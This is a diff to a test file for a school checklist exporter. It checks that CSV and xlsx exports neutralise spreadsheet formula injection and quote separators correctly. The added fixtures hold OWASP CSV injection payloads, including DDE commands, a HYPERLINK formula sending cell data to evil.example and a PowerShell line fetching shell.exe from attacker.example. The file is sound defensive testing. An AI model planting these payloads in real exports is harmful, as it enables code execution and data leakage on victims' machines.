@@ -1,5 +1,6 @@
 // The export files themselves: what someone sees when they open them in Excel.
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
 import { describe, expect, it } from 'vitest';
 import { buildChecklistCsv, buildChecklistXlsx, formatAmsterdamDateTime, toSafeText } from '../../src/checklists/export.js';
 import type { Checklist, ChecklistEvent, Step } from '../../src/checklists/store.js';
@@ -96,7 +97,7 @@ function rowStartingWith(rows: unknown[][], first: unknown): unknown[] {
 }
 
 /** Splits CSV text into rows of cells, honouring quotes; a test-side reader. */
-function parseCsv(text: string): string[][] {
+function parseCsv(text: string, separator = ';'): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
   let cell = '';
@@ -110,7 +111,7 @@ function parseCsv(text: string): string[][] {
       } else if (ch === '"') quoted = false;
       else cell += ch;
     } else if (ch === '"') quoted = true;
-    else if (ch === ';') {
+    else if (ch === separator) {
       row.push(cell);
       cell = '';
     } else if (ch === '\r' && text[i + 1] === '\n') {
@@ -266,6 +267,110 @@ describe('the CSV export', () => {
   });
 });
 
+// OWASP's CSV injection page and the payloads it grew from (DDE, HYPERLINK, tab and CR first), plus
+// the same behind leading spaces or quotes, and a second cell smuggled in after a separator.
+const OWASP_PAYLOADS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?leak="&A1&A2,"Error: please click for further information")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+1+1',
+  "+cmd|' /C notepad'!'A1'",
+  "-2+3+cmd|' /C calc'!A0",
+  "\t=cmd|' /C calc'!A0",
+  "\r=cmd|' /C calc'!A0",
+  "\n=cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  "=10+20+cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
+  '=1+2";=1+2',
+  '=1+2\'" ;,=1+2',
+  ' =1+1',
+  '"=1+1"',
+  "'=1+1",
+  '＝1+1',
+];
+/** What toSafeText must neutralise: a trigger, also behind spaces and quotes. */
+const TRIGGER = /^[\s"']*[=+\-@＝＋－＠]/;
+/** What a spreadsheet would run: a trigger not behind the neutralising leading '. */
+const LIVE = /^[\s"]*[=+\-@＝＋－＠]/;
+/** Payloads that start a cell in the middle of the text if a separator is not quoted. */
+const SMUGGLED = ['gewoon;=1+2', 'plain,=1+2', 'tab\t=1+2', 'regel\n=1+2'];
+
+function injected(): Checklist {
+  const { checklist } = fixture();
+  const all = [...OWASP_PAYLOADS, ...SMUGGLED];
+  return {
+    ...checklist,
+    title: OWASP_PAYLOADS[0]!,
+    schoolName: OWASP_PAYLOADS[1]!,
+    steps: all.map((p, i) => step(i + 1, { ownerName: p, note: p, evidenceUrl: p })),
+  };
+}
+
+describe('cells that a spreadsheet would run as a formula (OWASP CSV injection)', () => {
+  it.each(['nl', 'en'] as const)('writes every payload in the %s CSV as text with a leading quote, in name, note and link alike', (language) => {
+    const separator = language === 'nl' ? ';' : ',';
+    const rows = parseCsv(buildChecklistCsv(injected(), [], language).slice(1), separator);
+    const payloads = [...OWASP_PAYLOADS, ...SMUGGLED];
+    payloads.forEach((p, i) => {
+      const row = rows.find((r) => r[0] === String(i + 1))!;
+      const expected = TRIGGER.test(p) ? `'${p}` : p;
+      expect([row[3], row[5], row[6]]).toEqual([expected, expected, expected]);
+    });
+    expect(rows[0]).toEqual([language === 'nl' ? 'Checklist' : 'Checklist', `'${OWASP_PAYLOADS[0]}`]);
+  });
+
+  it.each(['nl', 'en'] as const)('leaves no cell of the %s CSV starting with a formula character, whichever separator a spreadsheet reads it with', (language) => {
+    const csv = buildChecklistCsv(injected(), [], language).slice(1);
+    for (const separator of [';', ',', '\t']) {
+      const cells = parseCsv(csv, separator).flat();
+      expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
+    }
+  });
+
+  it('quotes the cells that hold a separator, a quote or a line break, as RFC 4180 says', () => {
+    const csv = buildChecklistCsv(injected(), [], 'en');
+    expect(csv).toContain('"\'=1+2"";=1+2"'); // OWASP's own example, escaped as it shows it
+    expect(csv).toContain('"\'=1+2\'"" ;,=1+2"');
+    expect(csv).toContain('"gewoon;=1+2"');
+    expect(csv).toContain('"plain,=1+2"');
+  });
+
+  it('stores every payload in the xlsx as a text cell with a leading quote, never as a formula', async () => {
+    const buffer = await buildChecklistXlsx(injected(), [], 'en');
+    const ws = (await readWorkbook(buffer)).getWorksheet('Steps')!;
+    const payloads = [...OWASP_PAYLOADS, ...SMUGGLED];
+    const seen: unknown[] = [];
+    ws.eachRow((row) => {
+      const n = row.getCell(1).value;
+      if (typeof n !== 'number') return;
+      const p = payloads[n - 1]!;
+      const owner = row.getCell(4);
+      const note = row.getCell(6);
+      expect([owner.type, note.type]).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+      seen.push(owner.value, note.value);
+      // XML turns a stored CR into LF; what matters is the leading quote.
+      expect(owner.value).toBe((TRIGGER.test(p) ? `'${p}` : p).replace(/\r/g, '\n'));
+    });
+    expect(seen).toHaveLength(payloads.length * 2);
+    // The file itself: no formula element in any sheet.
+    const zip = await JSZip.loadAsync(buffer);
+    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
+    expect(sheets.length).toBe(2);
+    for (const f of sheets) expect(await zip.file(f)!.async('string')).not.toMatch(/<f[ >]/);
+  });
+});
+
+describe('the separator of an English export', () => {
+  it('is a comma, the list separator English Excel expects, with cells holding commas quoted', () => {
+    const { checklist, events } = fixture();
+    const csv = buildChecklistCsv({ ...checklist, title: 'Inspection, March 2027', language: 'en' }, events, 'en');
+    expect(csv.slice(1)).toMatch(/^Checklist,"Inspection, March 2027"\r\n/);
+    const rows = parseCsv(csv.slice(1), ',');
+    expect(rows.find((r) => r[0] === 'No.')).toEqual(['No.', 'Step', 'Status', 'Owner', 'Due', 'Note', 'Evidence link', 'Last changed by', 'Last changed at']);
+    expect(rows.find((r) => r[0] === '2')![5]).toBe(LONG_NOTE);
+  });
+});
+
 describe('text that is safe in a spreadsheet', () => {
   it.each([
     ['=1+1', "'=1+1"],
@@ -274,6 +379,9 @@ describe('text that is safe in a spreadsheet', () => {
     ['@SUM(A1)', "'@SUM(A1)"],
     ['\t=1', "'\t=1"],
     ['\r=1', "'\r=1"],
+    [' =1+1', "' =1+1"],
+    ['"@SUM(A1)"', `'"@SUM(A1)"`],
+    ['e-mail: a@b.nl', 'e-mail: a@b.nl'],
     ['gewoon tekst = prima', 'gewoon tekst = prima'],
     ['bel\u0007 mij', 'bel mij'],
   ])('shows %j as %j', (input, expected) => {
